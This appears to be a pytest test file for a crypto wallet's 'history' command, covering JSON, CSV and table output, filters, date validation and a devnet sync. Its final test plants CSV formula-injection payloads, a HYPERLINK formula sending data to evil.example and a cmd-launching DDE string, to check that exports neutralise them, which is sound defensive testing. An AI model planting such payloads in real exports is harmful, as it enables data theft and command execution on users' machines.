"""`termwallet history` on a real store in the test's TERMWALLET_HOME: table, JSON, CSV and
filters; a bad date is refused with exit 2."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from tests.fixtures.devnet import Devnet
from tests.wallet.test_history_store import A1, A2, DUSD, item
from tui.cli import main
from wallet.history.export import CSV_COLUMNS
from wallet.history.store import HistoryStore
from wallet.paths import Paths
from wallet.store import Store


@pytest.fixture
def filled() -> None:
    store = Store(Paths.default().ensure().database)
    hs = HistoryStore(store)
    hs.insert([
        item(1),
        item(2, account=A2, direction="out", asset=DUSD, symbol="DUSD", decimals=6,
             amount=2_500_000),
        item(3, kind="approval", direction="out", amount=2**256 - 1),
    ])  # fmt: skip
    hs.db.execute("UPDATE history SET flags = 6 WHERE block = 3")
    store.close()


def test_json_with_filters(filled: None, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["history", "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [r["block"] for r in rows] == [3, 2, 1]
    assert rows[0]["flags"] == ["approval", "unlimited_approval"]
    assert rows[0]["amount_base"] == str(2**256 - 1)
    assert main(["history", "--json", "--asset", "dusd"]) == 0
    assert [r["account"] for r in json.loads(capsys.readouterr().out)] == [A2]
    assert main(["history", "--json", "--account", A1, "--flagged"]) == 0
    assert [r["block"] for r in json.loads(capsys.readouterr().out)] == [3]
    assert main(["history", "--json", "--since", "2026-01-02"]) == 0
    assert json.loads(capsys.readouterr().out) == []


def test_csv_and_table(filled: None, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["history", "--csv", "--direction", "out"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [(r["block"], r["amount"]) for r in rows] == [
        ("3", "115792089237316195423570985008687907853269984665640564039457.584007913129639935"),
        ("2", "2.5"),
    ]
    assert main(["history", "--csv", "--limit", "1"]) == 0
    assert len(capsys.readouterr().out.splitlines()) == 2
    assert main(["history"]) == 0
    out = capsys.readouterr().out
    assert "Counterparty" in out and "unlimited" in out and "-2.5" in out
    assert "3 transactions · 1 flagged" in out


def test_the_table_spells_out_approvals_and_counts_one_in_the_singular(
    filled: None, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["history", "--flagged"]) == 0
    out = capsys.readouterr().out
    [row] = [line for line in out.splitlines() if "unlimited" in line]
    assert row.split()[2] == "approval"  # the direction column, not "appr"
    assert "1 transaction · 1 flagged" in out
    assert main(["--lang", "zh-CN", "history", "--flagged"]) == 0
    [row] = [line for line in capsys.readouterr().out.splitlines() if "无限" in line]
    assert "授权" in row


def test_bad_date_is_refused(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["history", "--since", "01/02/2026"]) == 2
    assert "YYYY-MM-DD" in capsys.readouterr().err


@pytest.mark.devnet
def test_sync_reads_the_restored_wallets_history_from_the_node(
    devnet: Devnet, capsys: pytest.CaptureFixture[str]
) -> None:
    """--sync on the user's own wallet (restored from the demo phrase, whose address was paid
    DUSD and DGLD when the demo was deployed): the token transfers come back from the node."""
    from wallet.accounts import AccountBook
    from wallet.demo import DEMO_MNEMONIC
    from wallet.keystore import KdfParams, Keystore

    paths = Paths.default().ensure()
    paths.config_file.write_text(
        f'network = "devnet"\nutxo_networks = []\nrpc_urls = {{ devnet = ["{devnet.rpc_url}"] }}\n'
    )
    ks = Keystore(paths.data_dir / "keystore.json", kdf=KdfParams.cheap_for_tests())
    unlocked = ks.create(DEMO_MNEMONIC, "a fine password")
    store = Store(paths.database)
    book = AccountBook(store)
    book.add_default_accounts(unlocked.signer(), book.software_wallet())
    unlocked.lock()
    store.close()
    assert main(["history", "--sync", "--json"]) == 0
    rows = json.loads(capsys.readouterr().out)
    received = {(r["symbol"], r["direction"]) for r in rows}
    assert ("DUSD", "in") in received and ("DGLD", "in") in received


def test_csv_guards_every_text_column_against_formulas(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A token anyone can deploy names itself =HYPERLINK(...): no cell may start a formula."""
    store = Store(Paths.default().ensure().database)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Claim")'
    HistoryStore(store).insert(
        [
            item(
                1,
                symbol=evil,
                asset=DUSD,
                decimals=6,
                amount=1,
                method="@SUM(1+1)*cmd|' /C calc'!A0",
            )
        ]
    )
    store.close()
    assert main(["history", "--csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    cells = [c for row in rows[1:] for c in row]
    assert evil[1:] in "".join(cells)  # still there, quoted
    numbers = re.compile(r"-?\d+(?:\.\d+)?")  # our own numbers (log index -1) are no formula
    assert not [
        c for c in cells if c.lstrip(" ")[:1] in ("=", "+", "@", "-") and not numbers.fullmatch(c)
    ]
